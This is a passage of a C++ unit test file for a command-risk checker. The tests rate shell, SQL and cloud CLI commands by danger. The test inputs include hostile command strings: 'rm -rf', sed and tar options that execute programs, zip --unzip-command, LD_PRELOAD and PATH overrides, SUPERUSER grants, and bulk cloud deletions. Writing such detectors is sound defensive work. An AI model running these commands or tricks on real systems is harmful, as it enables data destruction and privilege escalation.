        "SELECT \"dblink_exec\"('x')", "SELECT \"dblink_exec\" /* x */ ('x')", "SELECT `sys_exec`('x')",
        "SELECT [xp]('x')", "SELECT \"edit\"('', 'rm')", "SELECT 1 /*!50000 + sleep */"}) {
    EXPECT_GE(SeverityOfSql(sql), Finding::WARNING) << sql;
  }
  EXPECT_THAT(CodesFor({"sqlite3", "a.db", "select \"edit\"('', 'rm')"}), ElementsAre("opaque-command"));
}

TEST(JudgeCommandTest, SeesWhatSqlMakesOfServersAndClients) {
  for (const char* sql : {"ALTER SYSTEM SET archive_command = 'x'", "ALTER TABLE t ALTER c TYPE int USING 0",
                          "ALTER TABLE t ALTER c TYPE int", "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
                          "ALTER ROLE x SUPERUSER", "ALTER USER x PASSWORD 'y'", "CREATE ROLE x SUPERUSER",
                          "GRANT pg_execute_server_program TO x", "SET GLOBAL general_log_file = 'x'"}) {
    EXPECT_THAT(CodesFor({"psql", "-c", sql}), Contains("destructive-command")) << sql;
    EXPECT_GE(SeverityOfSql(sql), Finding::HIGH) << sql;
  }
  for (const char* sql : {"\\! rm -rf x", "\\o |sh", "\\i x.sql", "select 1 \\! sh", "system ls"}) {
    EXPECT_GE(SeverityOfSql(sql), Finding::HIGH) << sql;
  }
  EXPECT_EQ(JudgeCommand(Command({"sqlite3", "a.db", ".shell rm x"}))[0].severity(), Finding::HIGH);
  EXPECT_EQ(SeverityOfSql("ALTER TABLE t ADD c int"), Finding::INFO);
  EXPECT_EQ(SeverityOfSql("GRANT SELECT ON t TO x"), Finding::INFO);
}

TEST(JudgeCommandTest, WarnsOfWhatRunsProgramsOrChangesWhoMayDoWhat) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"pulumi", "preview"},
           {"helmfile", "list"},
           {"helmfile", "diff"},
           {"helmfile", "-e", "prod", "template"},
           {"aws", "codebuild", "start-build", "--project-name", "x"},
           {"aws", "stepfunctions", "start-execution", "--name", "x"},
           {"aws", "fis", "start-experiment", "--name", "x"},
           {"aws", "ssm", "start-automation-execution", "--name", "x"},
           {"aws", "ssm", "send-command", "--name", "x"},
           {"aws", "dms", "reload-tables", "--name", "x"},
           {"aws", "dms", "start-replication-task", "--start-replication-task-type", "reload-target"},
           {"aws", "iam", "attach-user-policy", "--name", "x"},
           {"aws", "iam", "put-role-policy", "--name", "x"},
           {"aws", "s3api", "put-bucket-acl", "--bucket", "x"},
           {"aws", "s3api", "put-bucket-policy", "--bucket", "x"},
           {"aws", "s3", "cp", "/dev/null", "s3://x/y"},
           {"aws", "s3", "cp", "/dev//null", "s3://x/y"},
           {"aws", "route53", "change-resource-record-sets", "--name", "x"},
           {"aws", "dynamodb", "batch-write-item", "--name", "x"},
           {"systemctl", "start", "poweroff.target"},
           {"systemctl", "start", "systemd-reboot.service"},
           {"systemctl", "start", "halt.target"},
           {"systemctl", "start", "x", "reboot.target"},
           {"kubectl", "set", "image", "deploy/x", "x=y"},
           {"zfs", "set", "mountpoint=/x", "a/b"},
           {"etcdctl", "put", "a", "b"},
           {"consul", "kv", "put", "a", "b"},
           {"gcloud", "firestore", "bulk-delete"},
           {"gcloud", "spanner", "databases", "execute-sql", "x", "--sql=DROP TABLE a"},
           {"gcloud", "spanner", "databases", "execute-sql", "x", "--sql", "DELETE FROM a WHERE true"},
           {"oci", "os", "object", "bulk-delete"},
           {"ibmcloud", "resource", "service-instance-delete", "x"},
           {"firebase", "database:remove", "/"},
           {"sed", "1e rm -rf x", "y"},
           {"sed", "-n", "s/x/y/e", "y"},
           {"sed", "s,x,y,pe", "y"},
           {"sed", "e", "y"},
           {"sed", "1,$ {e id\n}", "y"},
           {"sed", "w x", "y"},
           {"sed", "-f", "x.sed", "y"},
           {"sed", "s/[/]/x/e id/", "y"},
           {"sed", "s/x/y", "y"},
           {"sed", "-e", "p", "--expr=e id", "y"},
           {"sed", "-ne", "p;e id", "y"},
           {"tar", "-xFf", "x", "y"},
           {"tar", "--info-script=x", "-xf", "y"},
           {"tar", "--info-scr=x", "-xf", "y"},
           {"tar", "--to-command", "x", "-xf", "y"},
           {"tar", "--checkpoint-action=exec=x", "-cf", "y", "z"},
           {"zip", "-T", "-TT", "x", "y", "z"},
           {"zip", "-TTx", "y", "z"},
           {"zip", "--unzip-command", "x", "y", "z"},
       }) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(findings, Not(IsEmpty())) << testing::PrintToString(argv);
    EXPECT_GE(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
  for (const Arguments& argv : std::vector<Arguments>{
           {"systemctl", "start", "nginx"},
           {"aws", "s3", "cp", "s3://x/y", "a"},
           {"aws", "s3", "sync", "s3://x/y", "."},
           {"aws", "s3", "ls", "s3://x/y"},
           {"gsutil", "-m", "cp", "gs://x/y", "."},
           {"gcloud", "storage", "cp", "gs://x/y", "a"},
           {"aws", "cloudformation", "describe-stacks", "--stack-name", "x"},
           {"gcloud", "spanner", "databases", "execute-sql", "x", "--sql=SELECT 1"},
           {"zfs", "set", "compression=on", "a/b"},
           {"tar", "-czf", "x.tgz", "y"},
           {"zip", "-r", "x.zip", "y"},
           {"sed", "-n", "1,5p", "x"},
           {"sed", "-n", "-e", "1,5p", "-e", "$p", "every.file"},
           {"sed", "s/a b/e/g", "x"},
           {"sed", "-E", "s|a+|/e|;s,b,c,2", "x"},
           {"sed", "/x/d", "y"},
           {"aws", "autoscaling", "put-scaling-policy", "--name", "x"},
       }) {
    for (const Finding& finding : JudgeCommand(Command(argv))) {
      EXPECT_LE(finding.severity(), Finding::WARNING) << testing::PrintToString(argv);
    }
  }
}

TEST(JudgeCommandTest, SeesThatStoredObjectsAreOverwritten) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"aws", "s3", "cp", "a", "s3://x/y"},
           {"aws", "s3", "cp", "-", "s3://x/y"},
           {"aws", "--region", "r", "s3", "cp", "s3://x/y", "s3://x/z", "--recursive"},
           {"aws", "s3", "sync", ".", "s3://x"},
           {"aws", "s3", "mv", "a", "s3://x/y"},
           {"aws", "s3api", "put-object", "--bucket", "x", "--key", "y"},
           {"aws", "s3api", "copy-object", "--bucket", "x", "--key", "y"},
           {"aws", "s3control", "create-job", "--name", "x"},
           {"gsutil", "cp", "a", "gs://x/y"},
           {"gsutil", "-m", "rsync", "-r", ".", "gs://x"},
           {"gsutil", "mv", "a", "gs://x/y"},
           {"gcloud", "storage", "cp", "a", "gs://x/y"},
           {"gcloud", "storage", "mv", "a", "gs://x/y"},
           {"gcloud", "storage", "rsync", ".", "gs://x"},
       }) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), Contains("destructive-command")) << testing::PrintToString(argv);
    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, CallsATemplateOpaqueThatMayReplaceAnything) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"aws", "cloudformation", "update-stack", "--stack-name", "x"},
           {"aws", "cloudformation", "update-stack-set", "--stack-set-name", "x"},
           {"aws", "cloudformation", "deploy", "--stack-name", "x"},
           {"aws", "cloudformation", "create-change-set", "--stack-name", "x"},
           {"aws", "cloudformation", "execute-change-set", "--stack-name", "x"},
           {"gcloud", "deployment-manager", "deployments", "update", "x"},
           {"gcloud", "--project", "p", "deployment-manager", "deployments", "update", "x"},
       }) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << testing::PrintToString(argv);
    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, TakesAProgramThatNobodyKnowsForAnything) {
  for (const Arguments& argv : std::vector<Arguments>{{"frobnicate"},
                                                      {"./x"},
                                                      {"./ls"},
                                                      {"/tmp/kubectl", "get", "pods"},
                                                      {"sudo", "./deploy"},
                                                      {"sh", "-c", "ls; frobnicate"}}) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << testing::PrintToString(argv);
    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, TellsOfVariablesThatNameProgramsAndServers) {
  for (const char* name : {"BORG_PASSCOMMAND", "X_PASSCOMMAND", "RCLONE_CONFIG", "RCLONE_CONFIG_X_TYPE",
                           "SQLCMDINI", "CONTAINERS_CONF", "CONTAINERS_CONF_OVERRIDE", "X_CONFIG_DIR",
                           "X_PLUGIN_DIR", "COCKROACH_URL", "ETCDCTL_ENDPOINTS"}) {
    v1::Action action = Command({"ls"});
    (*action.mutable_environment())[name] = "x";
    EXPECT_THAT(CodesOf(JudgeCommand(action)), ElementsAre("environment-override")) << name;
  }
}

TEST(JudgeCommandTest, TellsOfVariablesThatSteer) {
  v1::Action action = Command({"ls"});
  (*action.mutable_environment())["TF_CLI_ARGS_apply"] = "-state=alt.tfstate";
  (*action.mutable_environment())["LD_PRELOAD"] = "x.so";
  (*action.mutable_environment())["GREETING"] = "hello";
  const std::vector<Finding> findings = JudgeCommand(action);
  ASSERT_THAT(CodesOf(findings), ElementsAre("environment-override"));
  ASSERT_EQ(findings[0].evidence_size(), 2);
  EXPECT_EQ(findings[0].evidence(0).address(), "environment.LD_PRELOAD");
  EXPECT_EQ(findings[0].evidence(1).value(), "TF_CLI_ARGS_apply=-state=alt.tfstate");
  EXPECT_THAT(CodesFor({"env", "PATH=.", "ls"}), Contains("environment-override"));
  EXPECT_THAT(CodesFor({"sh", "-c", "PATH=. ls"}), Contains("environment-override"));
  EXPECT_THAT(CodesFor({"env", "PSQLRC=rc.sql", "psql", "-c", "select 1"}), Contains("environment-override"));
  EXPECT_THAT(CodesFor({"sudo", "GIT_PAGER=x", "git", "log"}), Contains("environment-override"));
  EXPECT_THAT(CodesFor({"sh", "-c", "export PATH=.; ls"}), Contains("environment-override"));
}

TEST(JudgeCommandTest, TellsOfChangesThatDestroyNothing) {
  const std::vector<Finding> findings = JudgeCommand(Command({"kubectl", "label", "pod", "x", "a=b"}));
  ASSERT_THAT(CodesOf(findings), ElementsAre("changing-command"));
  EXPECT_EQ(findings[0].severity(), Finding::INFO);
  EXPECT_THAT(CodesFor({"kubectl", "get", "pod"}), Not(Contains("changing-command")));
}

TEST(JudgeCommandTest, SaysWhereItStands) {
  const std::vector<Finding> findings = JudgeCommand(Command({"sudo", "-n", "dropdb", "x"}));
  ASSERT_THAT(CodesOf(findings), ElementsAre("destructive-command"));
  EXPECT_EQ(findings[0].severity(), Finding::CRITICAL);
  EXPECT_EQ(findings[0].evidence(0).address(), "argv[2]");
  EXPECT_EQ(findings[0].evidence(0).value(), "dropdb x");
}

TEST(JudgeCommandTest, ShowsTwentyPlacesAndCountsTheOthers) {
  std::string script;
  for (int i = 0; i < 25; ++i) script += "rm " + std::to_string(i) + ";";
  const std::vector<Finding> findings = JudgeCommand(Command({"sh", "-c", script}));
  ASSERT_THAT(CodesOf(findings), ElementsAre("destructive-command"));
  EXPECT_EQ(findings[0].evidence_size(), 20);
  EXPECT_EQ(findings[0].evidence_omitted(), 5);
}

TEST(JudgeCommandTest, EndsForWhatIsNestedWithoutEnd) {
  Arguments nested(1000, "sudo");
  nested.push_back("ls");
  EXPECT_THAT(CodesFor(nested), Contains("opaque-command"));
  Arguments unknown;
  for (int i = 0; i < 500; ++i) unknown.insert(unknown.end(), {"sudo", "-Z"});
  EXPECT_THAT(CodesFor(unknown), Contains("opaque-command"));
  Arguments found;
  for (int i = 0; i < 500; ++i) found.insert(found.end(), {"find", "-exec"});
  EXPECT_THAT(CodesFor(found), Contains("opaque-command"));
  std::string sql;
  for (int i = 0; i < 50'000; ++i) sql += "--a\nupdate(";
  EXPECT_THAT(CodesFor({"psql", "-c", sql}), Contains("destructive-command"));
  std::string script;
  for (int i = 0; i < 10'000; ++i) script += "$(";
  EXPECT_THAT(CodesFor({"sh", "-c", script + "ls"}), Contains("opaque-command"));
  EXPECT_THAT(CodesFor({"sh", "-c", std::string(100'000, ';')}), Contains("opaque-command"));
  EXPECT_THAT(CodesFor({"sh", "-c", std::string(100'000, '`')}), Contains("opaque-command"));
}

TEST(JudgeCommandTest, RaisesEachCodeOfCommands) {
  std::set<std::string> raised;
  for (const Arguments& argv : std::vector<Arguments>{{"terraform", "destroy"},
                                                      {"terraform", "apply", "p"},
                                                      {"frobnicate"},
                                                      {"env", "PATH=.", "ls"},
                                                      {"mkdir", "x"}}) {
    for (const std::string& code : CodesFor(argv)) raised.insert(code);
  }
  for (const RuleDescription& rule : RuleTable()) {
    if (rule.group == "Commands") {
      EXPECT_THAT(raised, Contains(std::string(rule.code)));
    }
  }
}

}  // namespace
}  // namespace countersign::finding
